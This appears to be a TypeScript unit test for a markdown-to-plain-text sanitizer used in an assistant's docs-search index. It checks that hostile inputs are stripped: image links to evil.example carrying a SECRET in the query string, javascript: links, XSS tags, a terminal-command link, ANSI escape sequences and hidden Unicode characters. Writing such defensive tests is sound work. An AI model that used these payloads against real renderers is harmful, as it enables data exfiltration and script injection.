import assert from 'node:assert/strict';
import { plainCode, plainText } from '../../../../src/service/assistants/docs-search/index/plain-text.ts';

describe('plain text', () => {
  for (const [markdown, expected] of [
    ['**Bold** and *slanted* and _so_ and `code`', 'Bold and slanted and so and `code`'],
    ['snake_case_name and 2 * 3 * 4', 'snake_case_name and 2 * 3 * 4'],
    ['[text](https://a.example/b_(c))', 'text'],
    // Without a definition, a reference is text.
    ['[text][ref] and [x](javascript:alert(1))', '[text] [ref] and x'],
    ['![](https://evil.example/?d=SECRET) seen', 'seen'],
    ['![alt](https://evil.example/a.png "t") seen', 'seen'],
    ['[![logo](https://evil.example/p.png)](https://evil.example)', ''],
    ['<script>alert(1)</script>', 'alert(1)'],
    ['<img src=x onerror=alert(1)>', ''],
    ['<https://evil.example/>', ''],
    ['`<img src=x>`', '`<img src=x>`'],
    ['``a`b`` and ` c `', "`a'b` and `c`"],
    ['a ` b', 'a ` b'],
    ['a\u200bb\u202ec\u{e0041}', 'a b c'],
    ['<<< ./a.yaml#b [c.yml]', ''],
    ['--8<-- "a.md"', ''],
    ['[[toc]]', ''],
    ['{!> ../a.py!}', ''],
    ['<<< @/b.ts', ''],
    ['a <<< b and {!c!} d', 'a <<< b and {!c!} d'],
    ['<<< reads a string', '<<< reads a string'],
    ['8<- cut here', '8<- cut here'],
    ['line\u0007 bell', 'line bell'],
    ['\u001b[31mRed\u001b[0m \u001b]8;;http://evil\u0007link\u001b]8;;\u001b\\\\ `\u001b[1mcode`', 'Red link `code`'],
    [']\u001b[0m(http://evil) <\u001b[0mscript>', '] (http://evil) ‹script>'],
    ['\u009bHello \u001bc and \u001b]8;; unended', 'Hello c and ]8;; unended'],
  ] as const) {
    it(JSON.stringify(markdown), () => assert.equal(plainText(markdown), expected));
  }

  for (const hostile of [
    '\\[click\\](command:workbench.action.terminal.new)',
    '[a\\](b)',
    '[[x]](javascript:alert(1))',
    '<<img src=x>>',
    '[x] (y)[z]: https://evil.example',
    '[x][](y)(javascript:alert(1))',
    '[x![](y)](z)(javascript:alert(1))',
    '[x]<b>(javascript:alert(1))',
  ]) {
    it(`of ${hostile} contains no link, image or tag`, () => {
      const text = plainText(hostile);
      assert.doesNotMatch(text, /\]\(|\]\[|\]:|<[a-z/!]/i, text);
    });
  }

  it('of code keeps lines and tabs, and shows control characters', () => {
    assert.equal(plainCode('a\r\n\tb\u001b[31m'), 'a\n\tb�[31m');
  });
});
